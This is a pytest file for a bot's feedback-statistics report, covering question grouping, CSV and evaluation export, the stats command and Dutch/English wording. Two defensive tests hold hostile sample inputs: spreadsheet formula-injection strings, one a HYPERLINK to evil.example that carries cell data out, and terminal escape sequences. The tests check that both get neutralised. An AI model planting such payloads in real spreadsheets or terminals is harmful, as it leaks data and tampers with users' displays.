"""The editor's report: grouping, the window, CSV and the evaluation export, and ``python -m bot stats``."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import time
import unicodedata
from pathlib import Path

import pytest

from bench.quality.data import qa_dev_v2
from bot.core.feedback import DAY, Feedback, Shown
from bot.core.stats.evalset import liked_questions
from bot.core.stats.report import build
from bot.core.stats.spreadsheet import CSV_HEADER, write_csv
from bot.core.stats.wording import lines
from index.encoders import Encoder
from tests.bot.conftest import ANSWER_SENTENCE
from tests.bot.test_cli import run
from tests.bot.test_feedback import Clock

ARREST = Shown("armenia-icc-2023-10.txt", 7, ANSWER_SENTENCE)
CAPITAL = "Wat is de hoofdstad van Armenië?"


def fill(feedback: Feedback) -> None:
    """A week of questions: rewordings of one unanswered question, a liked answer, a disliked one."""
    asked = [
        (1, 1, CAPITAL, "refused"),
        (2, 1, "wat is de hoofdstad van armenie", "refused"),  # other spelling: only the embedding groups it
        (3, 1, "  WAT is de hoofdstad van Armenië ?! ", "refused"),  # the same normalised text
        (3, 2, "Hoeveel inwoners heeft Armenië?", "hedged"),
        (1, 3, "Wat moet Armenië doen als Poetin op bezoek komt?", "answered"),
        (2, 3, "Wat moet Armenië doen als Poetin komt?", "answered"),
    ]
    for chat, message, question, outcome in asked:
        shown = [] if outcome == "refused" else [ARREST, Shown("armenia-icc-2023-10.txt", 3, "De aansluiting.")]
        feedback.record(chat, message, question=question, outcome=outcome, lang="nl", shown=shown)
        assert isinstance(feedback.now, Clock)
        feedback.now.now += 1
    feedback.vote(1, 3, 0, 1, 1)
    feedback.vote(2, 3, 0, 2, -1)
    feedback.vote(3, 2, 0, 3, -1)


@pytest.fixture
def filled(tmp_path: Path) -> Feedback:
    feedback = Feedback(tmp_path / "feedback.sqlite3", now=Clock(time.time()))
    fill(feedback)
    return feedback


def test_the_report_counts_outcomes_and_votes_and_groups_rewordings(filled: Feedback, encoder: Encoder) -> None:
    plain = build(filled, 7)
    assert (plain.questions, plain.chats, plain.up, plain.down) == (6, 3, 1, 2)
    assert plain.outcomes == {"refused": 3, "hedged": 1, "answered": 2}
    assert [(u.asked, u.chats) for u in plain.unanswered] == [(2, 2), (1, 1), (1, 1)]  # by normalised text only
    report = build(filled, 7, embed=encoder.queries)
    first, second = report.unanswered
    assert (first.question, first.asked, first.chats, first.outcome) == (CAPITAL, 3, 3, "refused")
    assert first.variants == ("  WAT is de hoofdstad van Armenië ?! ", "wat is de hoofdstad van armenie")
    assert (second.question, second.outcome) == ("Hoeveel inwoners heeft Armenië?", "hedged")
    assert [(d.paragraph, d.down, d.up) for d in report.downvoted] == [(3, 2, 1), (7, 2, 1)]
    text = "\n".join(lines(report))
    assert "6 questions from 3 chats" in text and "answered 33% · hedged 17% · refused 50%" in text
    assert f"1. {CAPITAL} - asked 3x in 3 chats, refused" in text and "votes: 👍 1 · 👎 2" in text
    dutch = lines(report, "nl")
    assert dutch[0].endswith("6 vragen uit 3 chats")
    assert dutch[1] == "beantwoord 33% · met voorbehoud 17% · geweigerd 50%"
    assert f"1. {CAPITAL} - 3x gevraagd in 3 chats, geweigerd" in dutch and "stemmen: 👍 1 · 👎 2" in dutch
    assert "2. Hoeveel inwoners heeft Armenië? - 1x gevraagd in 1 chat, met voorbehoud" in dutch
    assert "- armenia-icc-2023-10.txt, alinea 3: 👎 2 · 👍 1" in dutch


def test_the_report_covers_only_its_window(filled: Feedback) -> None:
    assert isinstance(filled.now, Clock)
    filled.now.now += 8 * DAY
    filled.record(9, 9, question="Wie is Pasjinjan?", outcome="refused", lang="nl")
    report = build(filled, 7)
    assert (report.questions, report.up, report.down, report.downvoted) == (1, 0, 0, [])
    assert build(filled, 30).questions == 7


def test_the_csv_has_a_header_and_a_row_per_figure(filled: Feedback) -> None:
    out = io.StringIO()
    write_csv(build(filled, 7), out)
    found = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(found[0]) == list(CSV_HEADER)
    assert {r["item"]: r["count"] for r in found if r["section"] == "summary"}["refused"] == "3"
    assert next(r["item"] for r in found if r["section"] == "unanswered") == CAPITAL


def test_liked_questions_load_as_a_question_set(filled: Feedback) -> None:
    exported = liked_questions(filled, 7)
    assert set(exported) == {"about", "answerable", "off_topic", "near_topic"}
    (item,) = exported["answerable"]  # the 👎 page and the unvoted ones are left out
    assert item["q"] == "Wat moet Armenië doen als Poetin op bezoek komt?"
    assert (item["paragraph"], item["gold"], item["lang"]) == ([7], [ARREST.sentence], "nl")
    (question,) = qa_dev_v2(exported, item["source"])
    assert question.kind == "answerable" and question.gold is not None


def test_the_command_prints_writes_csv_and_exports(filled: Feedback, tmp_path: Path) -> None:
    env = {"FEEDBACK_DB": str(filled.path)}
    shown = run(tmp_path, "stats", "--days", "3", env=env)
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.startswith("Last 3 days") and f"1. {CAPITAL}" in shown.stdout
    dutch = run(tmp_path, "stats", "--days", "3", env={**env, "LANG": "nl_NL.UTF-8"})
    assert dutch.returncode == 0, dutch.stderr
    assert dutch.stdout.startswith("Afgelopen 3 dagen") and f"1. {CAPITAL} - 3x gevraagd" in dutch.stdout
    files = ["--csv", str(tmp_path / "out.csv"), "--export-eval", str(tmp_path / "x.json")]
    result = run(tmp_path, "stats", *files, env=env)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader((tmp_path / "out.csv").open(newline="", encoding="utf-8")))
    assert tuple(rows[0]) == CSV_HEADER and len(rows) > 6
    assert len(json.loads((tmp_path / "x.json").read_text("utf-8"))["answerable"]) == 1


@pytest.mark.parametrize(
    ("args", "env", "message"),
    [
        (["--days", "0"], {}, "error: python -m bot stats: argument --days: must be a whole number of days"),
        (["--days", "abc"], {}, "error: python -m bot stats: argument --days: must be a whole number of days"),
        (["--weeks", "2"], {}, "error: python -m bot stats: unrecognized arguments: --weeks 2"),
        (
            [],
            {"FEEDBACK_DB": "/nonexistent/feedback.sqlite3"},
            "error: no feedback database at /nonexistent/feedback.sqlite3 yet: the bot records questions asked on "
            "Telegram only, not those asked with ask or chat (FEEDBACK_DB sets where it keeps them)\n",
        ),
        (["--csv", "/nonexistent/dir/out.csv"], {}, "error: [Errno 2] No such file or directory"),
    ],
)
def test_bad_arguments_and_a_missing_database_are_one_line(
    filled: Feedback, tmp_path: Path, args: list[str], env: dict[str, str], message: str
) -> None:
    result = run(tmp_path, "stats", *args, env={"FEEDBACK_DB": str(filled.path), **env})
    assert result.returncode == 1
    assert result.stderr.startswith(message) and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")', "\t=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\r=2"]


def test_the_csv_neutralises_spreadsheet_formulas_and_quotes_every_cell(tmp_path: Path) -> None:
    feedback = Feedback(tmp_path / "feedback.sqlite3", now=Clock(time.time()))
    for message, question in enumerate(FORMULAS, start=1):
        feedback.record(1, message, question=question, outcome="refused", lang="nl")
    out = io.StringIO()
    write_csv(build(feedback, 7), out)
    written = out.getvalue()
    rows = list(csv.reader(io.StringIO(written, newline="")))
    quoted = io.StringIO()
    csv.writer(quoted, quoting=csv.QUOTE_ALL).writerows(rows)
    assert quoted.getvalue() == written  # every cell quoted
    items = [r[1] for r in rows if r[0] == "unanswered"]
    assert len(items) == len(FORMULAS)
    for item in items:  # what a spreadsheet would run starts with a quote, after any leading space or tab
        assert item.startswith("'") and item[1:].lstrip()[0] in "=+-@", item
    assert next(i for i in items if "HYPERLINK" in i).startswith("'=HYPERLINK(")


ESCAPES = "\x1b]0;pwned\x07\x1b[2JWat is\nde hoofdstad\tvan\x85Armenië?\x9b31m\x00"


def test_control_characters_are_neither_stored_nor_printed(tmp_path: Path) -> None:
    feedback = Feedback(tmp_path / "feedback.sqlite3", now=Clock(time.time()))
    feedback.record(1, 1, question=ESCAPES, outcome="refused", lang="nl")
    ((stored,),) = feedback.rows("SELECT question FROM questions")
    assert stored == "]0;pwned[2JWat is de hoofdstad van Armenië?31m"  # newline and tab are spaces
    with sqlite3.connect(feedback.path) as db:  # a row stored before questions were cleaned
        db.execute("INSERT INTO questions VALUES ('c', 2, ?, ?, 'hedged', 'nl')", (time.time(), ESCAPES + "?"))
    report = build(feedback, 7)
    out = io.StringIO()
    write_csv(report, out)
    for printed in ("\n".join(lines(report)), "".join(lines(report, "nl")), out.getvalue()):
        assert "Armenië" in printed
        controls = {c for c in printed if unicodedata.category(c) == "Cc"} - {"\n", "\r"}
        assert not controls, controls
    assert "\r" not in "".join(row[1] for row in csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_one_of_a_kind_is_counted_in_the_singular_in_english_and_dutch(tmp_path: Path) -> None:
    feedback = Feedback(tmp_path / "feedback.sqlite3", now=Clock(time.time()))
    feedback.record(1, 1, question=CAPITAL, outcome="refused", lang="nl")
    report = build(feedback, 1)
    english, dutch = lines(report, "en"), lines(report, "nl")
    assert english[0].startswith("Last 1 day (since ") and english[0].endswith(" UTC): 1 question from 1 chat")
    assert f"1. {CAPITAL} - asked 1x in 1 chat, refused" in english
    assert dutch[0].startswith("Afgelopen dag (sinds ") and dutch[0].endswith(" UTC): 1 vraag uit 1 chat")
    assert f"1. {CAPITAL} - 1x gevraagd in 1 chat, geweigerd" in dutch
    feedback.record(2, 1, question=CAPITAL, outcome="refused", lang="nl")
    several = lines(build(feedback, 2), "nl")
    assert several[0].startswith("Afgelopen 2 dagen (sinds ") and several[0].endswith(" UTC): 2 vragen uit 2 chats")
    assert lines(build(feedback, 2), "en")[0].endswith(" UTC): 2 questions from 2 chats")


def test_an_export_of_one_question_says_question(filled: Feedback, tmp_path: Path) -> None:
    result = run(tmp_path, "stats", "--export-eval", str(tmp_path / "x.json"), env={"FEEDBACK_DB": str(filled.path)})
    assert (result.returncode, result.stderr) == (0, f"wrote 1 question to {tmp_path / 'x.json'}\n")
